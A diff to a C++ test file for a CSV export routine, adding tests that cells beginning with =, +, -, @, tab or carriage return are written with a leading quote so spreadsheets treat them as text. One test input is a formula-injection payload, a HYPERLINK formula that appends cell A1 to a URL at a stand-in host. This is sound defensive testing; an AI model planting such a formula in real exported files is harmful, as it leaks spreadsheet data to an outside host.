@@ -260,6 +260,15 @@ TEST_F(DiscloseTest, CsvTablesRoundTrip) {
       for (size_t c = 0; c < t.columns.size(); ++c) {
         EXPECT_EQ((*rows)[r + 1][c], CsvText(want[r][t.columns[c]]))
             << t.name << " row " << r << " column " << t.columns[c];
+        // Read back by the documented rule, each cell is the JSON value: text as is
+        // (one leading ' dropped), integers in decimal, null empty.
+        const json& v = want[r][t.columns[c]];
+        std::string expected = v.is_null()      ? ""
+                               : v.is_string()  ? v.get<std::string>()
+                               : v.is_boolean() ? (v.get<bool>() ? "true" : "false")
+                                                : std::to_string(v.get<int64_t>());
+        EXPECT_EQ(CsvCellValue((*rows)[r + 1][c]), expected)
+            << t.name << " row " << r << " column " << t.columns[c];
       }
     }
   }
@@ -269,6 +278,39 @@ TEST_F(DiscloseTest, CsvTablesRoundTrip) {
   ASSERT_TRUE(parsed.ok());
   EXPECT_EQ((*parsed)[1], (std::vector<std::string>{"x,\"y\"\r\nz", "5"}));
   EXPECT_FALSE(ParseCsv("a,\"b\r\n").ok());
+}
+
+TEST(CsvCells, TextThatASpreadsheetWouldRunIsWrittenAsText) {
+  json row = {{"a", "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")"},
+              {"b", "+86 138"},
+              {"c", "-2+3"},
+              {"d", "@SUM(A1)"},
+              {"e", "\tx"},
+              {"f", "\rx"},
+              {"g", "'quoted"},
+              {"h", -800000},
+              {"i", "张*"},
+              {"j", "a=b"},
+              {"k", nullptr},
+              {"l", true}};
+  std::vector<std::string> cols = {"a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l"};
+  EXPECT_EQ(ToCsv(json::array({row}), cols),
+            StrCat(kUtf8Bom,
+                   "a,b,c,d,e,f,g,h,i,j,k,l\r\n"
+                   "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点击\"\")\",'+86 138,'-2+3,"
+                   "'@SUM(A1),'\tx,\"'\rx\",''quoted,-800000,张*,a=b,,true\r\n"));
+  absl::StatusOr<std::vector<std::vector<std::string>>> rows =
+      ParseCsv(ToCsv(json::array({row}), cols));
+  ASSERT_TRUE(rows.ok()) << rows.status();
+  ASSERT_EQ(rows->size(), 2u);
+  for (size_t c = 0; c < cols.size(); ++c) {
+    const json& v = row[cols[c]];
+    EXPECT_EQ(CsvCellValue((*rows)[1][c]), v.is_string() ? v.get<std::string>() : CsvText(v))
+        << cols[c];
+  }
+  EXPECT_FALSE(NeedsFormulaGuard("1800"));
+  EXPECT_FALSE(NeedsFormulaGuard(""));
+  EXPECT_TRUE(NeedsFormulaGuard("-"));
 }
 
 // Every file under `dir` that holds one of `values`: "file: value", or "".
